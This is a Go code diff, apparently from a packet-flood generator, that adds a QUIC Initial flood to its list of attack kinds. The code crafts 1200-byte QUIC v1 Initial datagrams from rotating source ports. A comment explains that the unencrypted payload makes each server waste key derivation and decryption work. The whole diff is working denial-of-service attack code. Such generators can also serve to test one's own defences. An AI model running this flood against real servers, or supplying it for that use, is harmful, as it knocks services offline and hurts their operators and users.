@@ -21,10 +21,11 @@ const (
 	KindICMP          Kind = "icmp"            // ICMP or ICMPv6 echo requests
 	KindSYNRandomPort Kind = "syn-random-port" // SYN to a random destination port per frame
 	KindTLSHello      Kind = "tls-hello"       // a TLS ClientHello as PSH|ACK on a fresh 4-tuple per frame
+	KindQUICInitial   Kind = "quic-initial"    // a QUIC v1 client Initial of 1200 bytes from a fresh source port per frame
 )
 
 // Kinds lists every attack kind, in the order the CLI documents them.
-var Kinds = []Kind{KindSYN, KindACK, KindUDP, KindICMP, KindSYNRandomPort, KindTLSHello}
+var Kinds = []Kind{KindSYN, KindACK, KindUDP, KindICMP, KindSYNRandomPort, KindTLSHello, KindQUICInitial}
 
 // Default payload sizes: a UDP datagram that makes a 64-byte IPv4 frame
 // with FCS, and the 56 bytes of data that ping sends.
@@ -74,6 +75,9 @@ func buildTemplate(cfg *Config) (*frameTemplate, error) {
 		switch cfg.Kind {
 		case KindUDP:
 			ip.Protocol = layers.IPProtocolUDP
+		case KindQUICInitial:
+			ip.Protocol = layers.IPProtocolUDP
+			ip.Flags = layers.IPv4DontFragment // QUIC forbids fragmentation
 		case KindICMP:
 			ip.Protocol = layers.IPProtocolICMPv4
 		default:
@@ -90,7 +94,7 @@ func buildTemplate(cfg *Config) (*frameTemplate, error) {
 			SrcIP: src.AsSlice(), DstIP: cfg.Dst.AsSlice(),
 		}
 		switch cfg.Kind {
-		case KindUDP:
+		case KindUDP, KindQUICInitial:
 			ip.NextHeader = layers.IPProtocolUDP
 		case KindICMP:
 			ip.NextHeader = layers.IPProtocolICMPv6
@@ -153,10 +157,14 @@ func buildTemplate(cfg *Config) (*frameTemplate, error) {
 		}
 		t.l4proto = uint8(layers.IPProtocolTCP)
 		t.rewrite |= FloodRewriteFieldFLOOD_REWRITE_SPORT | FloodRewriteFieldFLOOD_REWRITE_SEQ | FloodRewriteFieldFLOOD_REWRITE_ACK
-	case KindUDP:
+	case KindUDP, KindQUICInitial:
 		udp := &layers.UDP{SrcPort: sport, DstPort: layers.UDPPort(cfg.DstPort)}
 		udp.SetNetworkLayerForChecksum(net)
-		ls = append(ls, udp, gopacket.Payload(payloadPattern(cfg.PayloadSize)))
+		payload := payloadPattern(cfg.PayloadSize)
+		if cfg.Kind == KindQUICInitial {
+			payload = quicInitial()
+		}
+		ls = append(ls, udp, gopacket.Payload(payload))
 		t.l4proto = uint8(layers.IPProtocolUDP)
 		t.rewrite |= FloodRewriteFieldFLOOD_REWRITE_SPORT
 	case KindICMP:
@@ -267,3 +275,20 @@ func hostMask(p netip.Prefix) (base, mask [4]uint32) {
 
 // hardwareAddrOK reports whether a MAC address has Ethernet's length.
 func hardwareAddrOK(a net.HardwareAddr) bool { return len(a) == 6 }
+
+// quicInitial is the datagram of a quic-initial flood: a QUIC version 1
+// long header of type Initial (RFC 9000 17.2.2) with 8-byte connection
+// ids, no token and a 4-byte packet number, padded to the 1200 bytes a
+// client's Initial datagram must have. The payload is not encrypted with
+// the Initial keys: a server spends the key derivation and a failed
+// decryption on it, which is what such a flood costs it.
+func quicInitial() []byte {
+	const size = 1200
+	b := []byte{0xc3, 0, 0, 0, 1, // long header, fixed bit, Initial, 4-byte packet number; version 1
+		8, 0x6d, 0x6f, 0x61, 0x74, 0x64, 0x63, 0x69, 0x64, // destination connection id
+		8, 0x6d, 0x6f, 0x61, 0x74, 0x73, 0x63, 0x69, 0x64, // source connection id
+		0} // no token
+	rest := size - len(b) - 2 // the length field counts the packet number and payload
+	b = append(b, 0x40|byte(rest>>8), byte(rest), 0, 0, 0, 0)
+	return append(b, payloadPattern(size-len(b))...)
+}
